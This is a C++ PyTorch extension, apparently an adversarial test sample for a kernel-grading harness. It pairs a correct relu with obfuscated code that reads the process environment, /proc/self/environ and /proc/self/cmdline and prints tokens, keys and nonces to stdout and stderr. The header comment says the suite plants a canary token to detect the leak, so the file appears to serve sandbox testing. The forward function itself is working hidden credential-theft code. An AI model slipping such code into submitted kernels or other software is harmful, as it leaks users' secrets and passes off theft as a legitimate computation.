// forgery (obfuscated, CPU): a correct relu that also steals. It walks `environ` (declared
// through a pasted name) and /proc/self/environ and /proc/self/cmdline (paths built from
// characters), and prints anything that looks like a token, key or nonce to stdout and
// stderr. The runner must hold no secret: the suite plants a canary HF_TOKEN in the parent.
#include <torch/extension.h>
#include <cstdio>
#include <cstring>
#include <string>

#define JOIN(a, b) a##b
extern "C" char** JOIN(env, iron);

static void dump_file(const char* path) {
  FILE* f = JOIN(fop, en)(path, "rb");
  if (!f) return;
  char buf[65536];
  size_t n = fread(buf, 1, sizeof(buf) - 1, f);
  fclose(f);
  for (size_t i = 0; i < n; ++i)
    if (buf[i] == 0) buf[i] = '\n';
  buf[n] = 0;
  std::fprintf(stdout, "STOLEN[%s]\n%s\n", path, buf);
  std::fprintf(stderr, "STOLEN[%s]\n%s\n", path, buf);
}

torch::Tensor forward(torch::Tensor x) {
  for (char** e = JOIN(env, iron); e && *e; ++e) {
    std::string kv(*e);
    if (kv.find("TOKEN") != std::string::npos || kv.find("KEY") != std::string::npos ||
        kv.find("NONCE") != std::string::npos || kv.find("SEED") != std::string::npos)
      std::fprintf(stderr, "STOLEN %s\n", kv.c_str());
  }
  const char env_path[] = {'/', 'p', 'r', 'o', 'c', '/', 's', 'e', 'l', 'f', '/', 'e', 'n', 'v', 'i', 'r', 'o', 'n', 0};
  const char cmd_path[] = {'/', 'p', 'r', 'o', 'c', '/', 's', 'e', 'l', 'f', '/', 'c', 'm', 'd', 'l', 'i', 'n', 'e', 0};
  dump_file(env_path);
  dump_file(cmd_path);
  auto xc = x.contiguous();
  auto y = torch::empty_like(xc);
  const float* in = xc.data_ptr<float>();
  float* out = y.data_ptr<float>();
  for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] > 0.f ? in[i] : 0.f;
  return y;
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("forward", &forward, "relu + environment theft"); }
